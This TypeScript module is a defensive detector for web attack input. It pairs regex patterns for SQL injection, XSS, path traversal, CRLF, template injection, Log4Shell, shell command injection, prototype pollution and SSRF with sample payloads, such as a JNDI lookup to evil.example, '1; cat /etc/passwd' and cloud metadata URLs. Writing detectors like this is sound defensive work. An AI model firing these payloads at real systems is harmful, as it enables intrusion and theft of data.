/** A kind of attack and the texts that are a sign of it. */
export interface AttackSign {
  readonly id: string
  readonly pattern: RegExp
  /** Texts that must be found. */
  readonly examples: readonly string[]
  /** @see OWASP Core Rule Set 4 for the families; the patterns are ours, few and plain. */
  readonly family: string
}

/**
 * What attacks on any web service look like. For the audit of input that was refused already: nothing
 * is refused by these, so a miss costs an entry and a false alarm costs a reader's minute. No pattern
 * has nested or adjacent open repetitions: each looks at a text once.
 */
export const ATTACK_SIGNS: readonly AttackSign[] = [
  {
    id: 'sql',
    family: 'CRS 942',
    pattern:
      /\bunion\s+(?:all\s+)?select\b|\bselect\s+(?:distinct\s+)?[\w.*@()]+(?:,\s?[\w.*@()]+)*\s+from\b|['"]\s?(?:or|and)\s+['"\d(]|['")]\s?;\s?(?:drop|delete|insert|update|alter)\b|;\s?(?:drop|delete|insert|update|alter|shutdown|exec)\s|\b(?:sleep|benchmark|pg_sleep)\s?\(|'\s?--/i,
    examples: [
      "-34.6' OR '1'='1",
      '1; DROP TABLE users',
      '1 UNION SELECT password FROM users',
      "' and sleep(5)",
      "admin'--",
    ],
  },
  {
    id: 'html',
    family: 'CRS 941',
    pattern:
      /<\s?\/?(?:script|img|svg|iframe|object|embed|body|style|link|meta|base|form|input|details|marquee)\b|\bon(?:error|load|click|mouseover|focus|toggle)\s?=|javascript:|data:text\/html/i,
    examples: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '"><svg onload=alert(1)>',
    ],
  },
  {
    id: 'traversal',
    family: 'CRS 930',
    pattern:
      /(?:\.\.|%2e%2e|\.%2e|%2e\.)(?:[/\\]|%2f|%5c|;)|\/etc\/(?:passwd|shadow|hosts)\b|\b(?:win\.ini|web\.config)\b|\/proc\/self\b|\/\.(?:git|env|aws|ssh)\b/i,
    examples: ['../../etc/passwd', '..%2f..%2fetc', '/.env', '..\\..\\win.ini', '/.git/config'],
  },
  {
    id: 'crlf',
    family: 'CRS 921',
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are the sign
    pattern: /[\r\n]\s?[\w-]{1,40}:|%0d%0a|%0a[\w-]{1,40}:|[\u0000\u000b\u000c]/i,
    examples: ['x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: //evil', 'a\u0000b'],
  },
  {
    id: 'template',
    family: 'CRS 934',
    pattern: /\{\{[^{}]{1,80}\}\}|\$\{[^{}]{1,80}\}|<%[=\s]|#\{[^{}]{1,80}\}|\{%\s/,
    examples: ['{{7*7}}', `$${'{7*7}'}`, '<%= 7*7 %>', '#{7*7}'],
  },
  {
    id: 'log4shell',
    family: 'CRS 944',
    pattern: /\$\{(?:jndi|lower|upper|env|sys):/i,
    examples: [`$${'{jndi:ldap://evil.example/a}'}`],
  },
  {
    id: 'shell',
    family: 'CRS 932',
    pattern:
      /[;|&]\s?(?:cat|ls|id|whoami|wget|curl|nc|bash|sh|ping|powershell|cmd)\b|\$\([^()]{1,80}\)|`[^`]{1,80}`/i,
    examples: ['1; cat /etc/passwd', '$(id)', '`id`', '|| ping -c 1 evil.example'],
  },
  {
    id: 'prototype',
    family: 'CRS 934',
    pattern: /__proto__|\bconstructor\b.{0,4}\bprototype\b/,
    examples: ['__proto__[admin]=1', 'constructor.prototype.x', 'constructor[prototype]'],
  },
  {
    id: 'ssrf',
    family: 'CRS 934',
    pattern:
      /\b(?:https?|ftp|gopher|file|dict|ldap):\/\/(?:169\.254\.|127\.|0\.0\.0\.0|localhost\b|\[::|metadata\b|10\.|192\.168\.)|\bfile:\/\/\//i,
    examples: [
      'http://169.254.169.254/latest/meta-data',
      'file:///etc/passwd',
      'gopher://127.0.0.1:6379/',
    ],
  },
]

/** Looked at of one request, in all: more than any address may hold, and a refusal stays cheap. */
const MAX_CHARACTERS = 32_768

/** Ids of the signs that texts show, in the order of the table. */
export function attackSigns(texts: Iterable<string>): readonly string[] {
  const found = new Set<string>()
  let left = MAX_CHARACTERS
  for (const text of texts) {
    if (left <= 0) break
    const start = text.slice(0, left)
    // An empty text costs its turn too.
    left -= start.length + 1
    for (const { id, pattern } of ATTACK_SIGNS) if (pattern.test(start)) found.add(id)
  }
  return ATTACK_SIGNS.map(({ id }) => id).filter((id) => found.has(id))
}

/** Members that hold secrets: a passphrase may look like anything. */
const SECRET_NAMES = /^(?:password|new_password|current_password|secret|token|refresh_token|key)$/i

/** Every text of a request: its decoded path, its parameters with their names, and its body's. */
export function* textsOf(url: URL, body?: unknown): Generator<string> {
  yield decoded(url.pathname)
  yield url.pathname
  for (const [name, value] of url.searchParams) {
    yield name
    if (!SECRET_NAMES.test(name)) yield value
  }
  yield* textsIn(body, 0)
}

const MAX_DEPTH = 8

function* textsIn(value: unknown, depth: number): Generator<string> {
  if (typeof value === 'string') yield value
  if (typeof value !== 'object' || value === null || depth > MAX_DEPTH) return
  for (const [name, inner] of Object.entries(value)) {
    yield name
    if (!SECRET_NAMES.test(name)) yield* textsIn(inner, depth + 1)
  }
}

function decoded(path: string): string {
  try {
    return decodeURIComponent(path)
  } catch {
    return path
  }
}
